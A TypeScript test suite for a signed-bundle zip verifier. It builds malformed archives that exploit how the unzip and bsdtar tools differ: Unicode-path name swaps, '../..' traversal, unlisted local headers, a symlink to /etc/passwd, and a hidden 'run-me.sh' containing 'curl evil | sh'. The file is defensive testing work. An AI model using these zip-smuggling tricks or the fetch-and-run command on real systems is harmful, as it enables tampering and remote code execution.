import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildBundle, verifyBundle, type BuiltBundle } from '../../../../shared/bundle';
import { richAssessment } from '../../../fixtures/rich-assessment';
import { extractAll, haveExtractors, signedTree, type ExtractedTree } from './extractors';
import { tempDir, webCryptoSigner } from './helpers';
import {
  nameOf,
  parseZip,
  storedPart,
  text,
  unicodePathField,
  writeZip,
  type ZipLayout,
  type ZipPart,
} from './zip-surgery';

/*
 * Each case is a zip that real extractors (Info-ZIP unzip, libarchive's bsdtar reading a stream)
 * turn into something other than what the central directory lists. The rule: a bundle the
 * verifier accepts extracts, with every extractor, to exactly the signed files; anything else is
 * refused.
 */
describe.runIf(haveExtractors)('the verifier against unzip and bsdtar', () => {
  const dir = tempDir();
  let bundle: BuiltBundle;
  let signed: ExtractedTree;
  afterAll(() => dir.remove());
  beforeAll(async () => {
    const signer = await webCryptoSigner({
      name: 'Zoë Müller',
      organization: 'Sécurité OT',
      email: 'zoe@example.com',
    });
    bundle = await buildBundle({ data: await richAssessment(), signer, signedAt: '2026-03-06T17:00:00Z' });
    const all = unzipSync(bundle.bytes);
    const signatureFiles = Object.fromEntries(
      ['SHA256SUMS', 'SHA256SUMS.sig', 'allowed_signers'].map((p) => [p, all[`${bundle.folder}/${p}`]!]),
    );
    signed = signedTree(bundle.folder, bundle.files, signatureFiles);
  });

  const mutate = (change: (layout: ZipLayout, find: (path: string) => ZipPart) => void): Uint8Array => {
    const layout = parseZip(bundle.bytes);
    const find = (path: string): ZipPart =>
      layout.parts.find((p) => nameOf(p) === `${bundle.folder}/${path}`)!;
    change(layout, find);
    return writeZip(layout);
  };
  let counter = 0;
  const extracted = (zip: Uint8Array) => extractAll(zip, dir.path, `case-${counter++}`);
  const refusal = async (zip: Uint8Array, label = ''): Promise<string> => {
    const result = await verifyBundle(zip);
    expect(result.valid, label).toBe(false);
    return result.problems.join('\n');
  };

  it('a genuine bundle, and the same files re-zipped by Info-ZIP zip (folders, extra fields, streamed), verify and extract to exactly the signed files', async () => {
    expect((await verifyBundle(bundle.bytes)).valid).toBe(true);
    const trees = extracted(bundle.bytes);
    expect(trees.unzip).toEqual(signed);
    expect(trees['bsdtar (stream)']).toEqual(signed);

    const work = join(dir.path, 'rezip');
    mkdirSync(work);
    writeFileSync(join(work, 'in.zip'), bundle.bytes);
    execFileSync('unzip', ['-qq', 'in.zip'], { cwd: work });
    execFileSync('zip', ['-qr', 'files.zip', bundle.folder], { cwd: work });
    // Info-ZIP zip on Linux writes non-ASCII names as raw bytes without the UTF-8 flag, which
    // other extractors read as CP437: those entries, and only those, are refused.
    const nonAscii = bundle.files.filter((f) => /[^ -~]/.test(f.path));
    expect(nonAscii.length).toBeGreaterThan(0);
    const onlyNames = (problems: string[]): void => {
      expect(problems).toHaveLength(nonAscii.length);
      for (const p of problems) expect(p).toMatch(/refused, a non-ASCII name without the UTF-8 flag/);
    };
    onlyNames((await verifyBundle(new Uint8Array(readFileSync(join(work, 'files.zip'))))).problems);
    // "zip -" writes to a pipe, so every entry has a data descriptor after its data.
    const streamed = new Uint8Array(
      execFileSync('sh', ['-c', `zip -qr - ${bundle.folder} | cat`], { cwd: work }),
    );
    expect(parseZip(streamed).parts.filter((p) => p.flags & 8).length).toBeGreaterThan(10);
    onlyNames((await verifyBundle(streamed)).problems);
    // With the UTF-8 flag set the same re-zip verifies: folder entries and UT/ux extras are fine.
    // (parseZip keeps no data descriptors, so the sizes go back into the local headers.)
    const fixed = parseZip(streamed);
    for (const part of fixed.parts) part.flags = (part.flags | 0x0800) & ~0x0008;
    expect((await verifyBundle(writeZip(fixed))).problems).toEqual([]);
  });

  it('refuses Unicode-path extra fields that swap README.txt and data/zones.csv for extractors', async () => {
    const zip = mutate((_, find) => {
      const readme = find('README.txt');
      const zones = find('data/zones.csv');
      for (const [part, other] of [
        [readme, zones],
        [zones, readme],
      ] as const) {
        const field = unicodePathField(part.name, nameOf(other));
        part.centralExtra = field;
        part.localExtra = field;
      }
    });
    const trees = extracted(zip);
    // unzip really does write zones.csv's bytes under the name README.txt.
    expect(trees.unzip.get(`${bundle.folder}/README.txt`)).toBe(
      signed.get(`${bundle.folder}/data/zones.csv`),
    );
    expect(await refusal(zip)).toMatch(/README\.txt": refused, a Unicode path field \(0x7075\)/);
  });

  it('refuses a "../.." path hidden in an extra field, in either header', async () => {
    for (const where of ['centralExtra', 'localExtra'] as const) {
      const zip = mutate((_, find) => {
        const part = find('README.txt');
        part[where] = unicodePathField(part.name, `${bundle.folder}/../../escaped.txt`);
      });
      expect(await refusal(zip)).toMatch(/README\.txt": refused, .*a Unicode path field \(0x7075\)/);
    }
  });

  it('refuses a local header the central directory does not list, which a streaming extractor writes out', async () => {
    const zip = mutate((layout) => {
      const extra = storedPart(
        layout.parts[0]!,
        `${bundle.folder}/evidence/run-me.sh`,
        text('curl evil | sh\n'),
      );
      layout.parts.splice(3, 0, { ...extra, unlisted: true });
    });
    const trees = extracted(zip);
    expect(trees.unzip).toEqual(signed);
    expect(trees['bsdtar (stream)'].has(`${bundle.folder}/evidence/run-me.sh`)).toBe(true);
    expect(await refusal(zip)).toMatch(/a local header at byte \d+ that the central directory does not list/);
  });

  it('refuses prepended bytes, gaps between entries, and bytes before the central directory', async () => {
    const junk = text('x'.repeat(100));
    const prepended = mutate((layout) => (layout.parts[0]!.before = junk));
    expect(await refusal(prepended)).toMatch(/100 bytes before the first entry that belong to no entry/);
    const gap = mutate((layout) => (layout.parts[4]!.before = junk));
    expect(await refusal(gap)).toMatch(/100 bytes after ".*" that belong to no entry/);
    const tail = mutate((layout) => (layout.beforeDirectory = junk));
    expect(await refusal(tail)).toMatch(/100 bytes after ".*" that belong to no entry/);
    const comment = mutate((layout) => (layout.comment = text('\x1b[2J signed and valid')));
    expect(await refusal(comment)).toMatch(/the archive has a comment/);
  });

  it('refuses data after the end of a deflate stream', async () => {
    const zip = mutate((_, find) => {
      const part = find('data/assessment.json');
      expect(part.method).toBe(8);
      part.data = new Uint8Array([...part.data, ...deflateSync(text('hidden'))]);
      part.compressedSize = part.data.length;
    });
    expect(extracted(zip).unzip).toEqual(signed);
    expect(await refusal(zip)).toMatch(
      /data\/assessment\.json" has data after the end of its deflate stream/,
    );
  });

  it('refuses a wrong CRC, and headers that disagree on sizes, method, flags or name', async () => {
    const wrongCrc = mutate((_, find) => (find('README.txt').crc ^= 1));
    expect(await refusal(wrongCrc)).toMatch(/README\.txt": its CRC-32 does not match its data/);
    const zip = mutate(() => {});
    const cases: [number, number, RegExp][] = [
      [22, 1, /the local header declares other sizes or another CRC/],
      [14, 1, /the local header declares other sizes or another CRC/],
      [8, 9, /the local header has another compression method/],
      [6, 0x0802, /the local header has other flags/],
      [10, 1, /the local header has another date/],
      [30, 0x20, /the local header names a different file/],
    ];
    for (const [field, value, reason] of cases) {
      const changed = zip.slice();
      const view = new DataView(changed.buffer);
      // The first entry's local header is at 0: change one field there, and nothing in the central directory.
      if (field === 30) changed[33] = changed[33]! ^ value;
      else if (field === 14 || field === 22) view.setUint32(field, view.getUint32(field, true) + value, true);
      else view.setUint16(field, field === 10 ? view.getUint16(field, true) + value : value, true);
      expect(await refusal(changed, `field ${field}`)).toMatch(reason);
    }
  });

  it('refuses folder entries other than those the files imply, folders with data, and 60,000 folder entries', async () => {
    const folderPart = (layout: ZipLayout, path: string, data: Uint8Array = new Uint8Array(0)): ZipPart => ({
      ...storedPart(layout.parts[0]!, path, data),
      externalAttributes: ((0o040755 << 16) | 0x10) >>> 0,
    });
    const implied = mutate((layout) => layout.parts.unshift(folderPart(layout, `${bundle.folder}/data/`)));
    expect((await verifyBundle(implied)).problems).toEqual([]);
    const stray = mutate((layout) => layout.parts.push(folderPart(layout, `${bundle.folder}/empty/`)));
    expect(await refusal(stray)).toMatch(/empty\/": refused, a folder entry that holds no file/);
    const withData = mutate((layout) =>
      layout.parts.push(folderPart(layout, `${bundle.folder}/data/`, text('x'))),
    );
    expect(await refusal(withData)).toMatch(/data\/": refused, a folder entry with content/);
    const many = mutate((layout) => {
      for (let i = 0; i < 60_000; i++) layout.parts.push(folderPart(layout, `${bundle.folder}/d${i}/`));
    });
    const started = Date.now();
    const problems = await refusal(many);
    expect(problems).toMatch(/refused: 59995 more folder entries that hold no file/);
    expect(problems.split('\n').length).toBeLessThan(10);
    expect(Date.now() - started).toBeLessThan(30_000);
  });

  it('refuses a symbolic link entry, which both extractors create as a link', async () => {
    const zip = mutate((layout) => {
      const link = storedPart(layout.parts[0]!, `${bundle.folder}/evidence/passwd`, text('/etc/passwd'));
      layout.parts.push({ ...link, versionMadeBy: 0x0314, externalAttributes: (0o120777 << 16) >>> 0 });
    });
    expect(extracted(zip).unzip.get(`${bundle.folder}/evidence/passwd`)).toBe('link');
    expect(await refusal(zip)).toMatch(/evidence\/passwd": refused, a symbolic link or special file/);
  });

  it('refuses a non-ASCII name without the UTF-8 flag, which unzip reads as CP437', async () => {
    const name = bundle.files.find((f) => /[^ -~]/.test(f.path));
    expect(name).toBeDefined();
    const zip = mutate((_, find) => (find(name!.path).flags &= ~0x0800));
    expect(await refusal(zip)).toMatch(/a non-ASCII name without the UTF-8 flag/);
  });
});
